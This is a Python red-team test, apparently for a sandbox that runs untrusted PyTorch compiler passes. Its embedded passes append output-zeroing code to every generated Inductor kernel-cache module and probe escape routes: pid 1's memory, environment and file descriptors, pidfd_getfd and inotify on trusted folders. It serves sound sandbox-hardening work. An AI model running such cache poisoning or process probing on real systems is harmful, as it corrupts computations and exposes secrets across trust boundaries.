"""Round 40c through the real plugin (CPU, the trusted allow-list off as in every red-team run, round 1's
``harness.Layout``), in any of the four configurations: what a pass's child reaches of the trusted side.

``python -m tests.adversarial.redteam.round40c.plugin40c [config]``: two runs of the plugin on one layout (so one
``HOME``, where the trusted side keeps the kernel caches, ``kernel_cache.root``):

1. ``--passnet-compiler pass_mgr`` (the default) over three samples of round 1's light relu model:

   - ``r40c_control``: the honest Triton relu pass.
   - ``r40c_poison``: the same pass, whose first call (KEPT_CACHE_ACROSS_COMPILERS) compiles the variant's model with
     the child's own Inductor compiler in a subprocess (its environment is the child's: ``TORCHINDUCTOR_CACHE_DIR`` in
     its scratch's ``kernel-cache``), appends to every generated Python module there a ``call`` that writes zeros,
     and fails with what it did (its child ends; the trusted side keeps its kernel cache, ``Sandbox.close``).
   - ``r40c_reach``: the same pass, whose first call reads what its child holds and sees (REACH: its descriptors, the
     first process of its PID namespace, its process group, its environment, the trusted side's temporary folder
     through inotify, its spill folder) and fails with it as JSON.

2. ``--passnet-compiler inductor`` (torch's own compiler: ``pipeline._TORCH_COMPILERS``, "nothing of the sample's runs
   on their compiled side") over ``r40c_control`` and ``r40c_poison``: each child is given the kernel cache kept for
   its sample's pass code (``kernel_cache.key``: the pass folders only, not the compiler).

Root runs lease child uids of no account (the package copy's ``identity.FIRST`` moved to 1,500,850, 50 of them).
"""

from __future__ import annotations

import json
import re
from pathlib import Path

RULE = "reach40c"
UIDS = (1_500_850, 50)  # the root runs' leased uids: of no account
MARK = "R40C_POISONED_CACHE_RAN"

PASS = r'''
import ctypes, glob, json, os, stat, subprocess, sys, time
import torch
from pass_dir.kernels import launch_relu

MODE = "{mode}"
_STATE = {}
_WATCH = sys.modules.get("pytest_passnet.sandbox.child.watch")
if _WATCH is not None:  # the child's own static layer (a diagnostic), as round 2's passes switch it off
    _WATCH.static_findings = lambda rule_files, sample_dir: []

_COMPILE = """
import importlib.util, os, sys, torch
from pathlib import Path
# The package as the child imported it: a fresh interpreter under Landlock may not list the folder above it.
package = sys.argv[3]
spec = importlib.util.spec_from_file_location("pytest_passnet", os.path.join(package, "__init__.py"),
                                              submodule_search_locations=[package])
sys.modules["pytest_passnet"] = importlib.util.module_from_spec(spec)
spec.loader.exec_module(sys.modules["pytest_passnet"])
from pytest_passnet.materialize import bind_to, forward_parameters, load_model
from pytest_passnet.sandbox.child import compilers
from pytest_passnet.sandbox.child.timing import seed_call, warm_up
model = load_model(Path(sys.argv[1]), "cpu")
args, kwargs = bind_to(forward_parameters(model), {"in_0": torch.randn(256, 1024)})
compiler = compilers.build("inductor", sys.argv[2], "cpu", "full")
compiled = compiler.compile(model)
with compiler.warmup_guard():
    warm_up(lambda: compiled(*args, **kwargs), 1, "cpu", seed_call)
print("compiled", flush=True)
"""

_OVERRIDE = """

_r40c_call = call
def call(args):
    import os as _os
    _os.write(2, b"MARK\\n")
    return tuple(out.zero_() for out in _r40c_call(args))
""".replace("MARK", "R40C_POISONED_CACHE_RAN")


def _plan():
    return json.loads(os.environ.get("PASSNET_CONFINEMENT", "{}"))


def _models():
    return sorted(glob.glob(os.path.join(_plan()["landlock"]["read"][-1], "*", "model.py")))


def _poison():
    cache = os.environ["TORCHINDUCTOR_CACHE_DIR"]
    model = _models()[0]
    package = os.path.dirname(sys.modules["pytest_passnet"].__file__)
    done = subprocess.run([sys.executable, "-P", "-c", _COMPILE, model, os.getcwd(), package], capture_output=True,
                          text=True, timeout=500)
    tampered = []
    for root, _, files in os.walk(cache):
        for name in files:
            if name.endswith(".py"):
                with open(os.path.join(root, name), "a") as module:
                    module.write(_OVERRIDE)
                tampered.append(os.path.relpath(os.path.join(root, name), cache))
    return {"rc": done.returncode, "out": done.stdout[-200:], "err": done.stderr[-1200:], "tampered": tampered,
            "model": model, "cache": cache}


def _try(action):
    try:
        return action()
    except Exception as exc:
        return f"refused: {type(exc).__name__}: {exc}"[:300]


def _fds():
    found = {}
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
            flags = open(f"/proc/self/fdinfo/{name}").read().split("flags:")[1].split()[0]
        except OSError:
            continue
        found[name] = f"{target} {flags}"
    return found


def _inotify(folder):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "inotify_init1")
    try:
        if libc.inotify_add_watch(fd, folder.encode(), 0x100 | 0x200) < 0:  # IN_CREATE | IN_DELETE
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return "watching"
    finally:
        os.close(fd)


def _getfd_1():
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = os.pidfd_open(1)
    try:
        got = libc.syscall(438, pidfd, 2, 0)  # pidfd_getfd: the first process's fd 2 (x86_64)
        if got < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        os.close(got)
        return "got"
    finally:
        os.close(pidfd)


def _spill():
    folder = sys.argv[1]
    return {name: f"{oct(s.st_mode)} uid {s.st_uid}" for name in sorted(os.listdir(folder))
            for s in [os.lstat(os.path.join(folder, name))]}


def _reach():
    plan = _plan()
    temporary = os.path.dirname(plan.get("folders", {}).get("prefix", "/tmp/x"))
    found = {
        "pid": os.getpid(), "ppid": os.getppid(), "pgid": os.getpgid(0), "sid": os.getsid(0), "uid": os.getuid(),
        "fds": _try(_fds),
        "pids_visible": _try(lambda: sorted(int(p) for p in os.listdir("/proc") if p.isdigit())),
        "pid1_cmdline": _try(lambda: open("/proc/1/cmdline", "rb").read().split(b"\0")[:4]),
        "pid1_status_uid": _try(lambda: [l for l in open("/proc/1/status") if l.startswith("Uid")]),
        "pid1_fd": _try(lambda: os.listdir("/proc/1/fd")),
        "pid1_environ": _try(lambda: len(open("/proc/1/environ", "rb").read())),
        "pid1_mem": _try(lambda: len(open("/proc/1/mem", "rb").read(1))),
        "pidfd_open_1": _try(lambda: os.close(os.pidfd_open(1)) or "opened"),
        "pid1_fd_links": _try(lambda: {n: _try(lambda n=n: os.readlink(f"/proc/1/fd/{n}")) for n in os.listdir("/proc/1/fd")}),
        "pid1_fd_opened": _try(lambda: {n: _try(lambda n=n: os.close(os.open(f"/proc/1/fd/{n}", os.O_RDONLY)) or "opened")
                                         for n in os.listdir("/proc/1/fd") if n not in ("0", "1", "2")}),
        "pid1_getfd": _try(_getfd_1),
        "pid1_signal0": _try(lambda: os.kill(1, 0) or "allowed") if os.getpid() != 1 else "itself",
        "environ_names": sorted(os.environ),
        "plan_keys": sorted(plan),
        "plan_parent": plan.get("parent"),
        "temporary": temporary,
        "temporary_listing": _try(lambda: len(os.listdir(temporary))),
        "temporary_stat": _try(lambda: oct(os.stat(temporary).st_mode)),
        "temporary_inotify": _try(lambda: _inotify(temporary)),
        "spill": _try(_spill),
        "core_limit": __import__("resource").getrlimit(4),
        "dumpable": _try(lambda: ctypes.CDLL(None).prctl(3, 0, 0, 0, 0)),
    }
    return found


def pattern(a):
    return torch.relu(a)


def replacement_args(a):
    return (a,)


def relu(x):
    if MODE != "honest" and not _STATE and type(x) is torch.Tensor:
        _STATE.update(_poison() if MODE == "poison" else _reach())
        raise RuntimeError("R40C " + json.dumps(_STATE, default=str))
    return launch_relu(x, torch.empty_like(x))


def replacement_func():
    return relu
'''
SAMPLES = {"r40c_control": "honest", "r40c_poison": "poison", "r40c_reach": "reach"}
INDUCTOR_SAMPLES = ("r40c_control", "r40c_poison")


def _uids_of_no_account(package: Path) -> None:
    identity = package / "pytest_passnet" / "sandbox" / "identity.py"
    text = identity.read_text()
    text = re.sub(r"^FIRST = .*$", f"FIRST = {UIDS[0]}", text, count=1, flags=re.M)
    text = re.sub(r"^COUNT = .*$", f"COUNT = {UIDS[1]}", text, count=1, flags=re.M)
    identity.write_text(text)


def _variants(layout, out: Path) -> dict[str, dict]:
    report = json.loads((out / "report.json").read_text())
    return {Path(v["sample"]).name: v for v in report["variants"]}


def _reach_found(message: str) -> dict | None:
    found = re.search(r"R40C (\{.*\})", message or "")
    if not found:
        return None
    try:
        return json.JSONDecoder().raw_decode(found[1])[0]
    except ValueError:
        return None


def plugin_run(config_name: str = "plain-root") -> dict:
    """Both runs on one layout: each sample's status and message (``pass_mgr``, then ``inductor``), the reach probe's
    JSON, the kept caches, whether the run's secret shows anywhere, the runs' exit codes and seconds."""
    from tests.adversarial.redteam import harness

    config = next(c for c in harness.CONFIGS if c.name == config_name)
    layout = harness.Layout(config)
    try:
        _uids_of_no_account(layout.package)
        model, inputs = harness.MODELS["light"]
        modules = {"kernels.py": (harness.PASSES / "kernels.py").read_text()}
        samples = {name: harness.build_rule_sample(layout, name, model, inputs, RULE, PASS.replace("{mode}", mode),
                                                   modules) for name, mode in SAMPLES.items()}
        layout.hand_over()
        first = layout.command(list(samples.values()))
        first_code, first_s = harness._run_pytest(layout, first, "run")
        passes = _variants(layout, layout.out)
        kept = sorted(str(p.relative_to(layout.home)) for p in (layout.home / ".cache").rglob("*.py")) \
            if (layout.home / ".cache").is_dir() else []
        second_out = layout.base / "out-inductor"
        second = layout.command([samples[name] for name in INDUCTOR_SAMPLES], "--passnet-compiler", "inductor")
        second[second.index("--passnet-out") + 1] = str(second_out)
        second_code, second_s = harness._run_pytest(layout, second, "inductor")
        inductor = _variants(layout, second_out) if (second_out / "report.json").is_file() else {}
        texts = "".join(p.read_text(errors="replace") for p in layout.base.glob("*.out")) + \
            "".join(p.read_text(errors="replace") for out in (layout.out, second_out) if out.is_dir()
                    for p in out.glob("*.json*"))
        brief = {name: {"status": v.get("status"), "speedup": v.get("speedup"), "message": (v.get("message") or "")[:3000]}
                 for name, v in passes.items()}
        return {
            "config": config_name,
            "pass_mgr": brief,
            "inductor": {name: {"status": v.get("status"), "speedup": v.get("speedup"),
                                "message": (v.get("message") or "")[:1500]} for name, v in inductor.items()},
            "reach": _reach_found(passes.get("r40c_reach", {}).get("message", "")),
            "kept_python_modules": kept,
            "secret_seen": layout.secret in texts,
            "runs": {"pass_mgr": [first_code, round(first_s, 1)], "inductor": [second_code, round(second_s, 1)]},
        }
    finally:
        layout.remove()


if __name__ == "__main__":
    import sys

    print(json.dumps(plugin_run(*sys.argv[1:2]), indent=1, default=str))
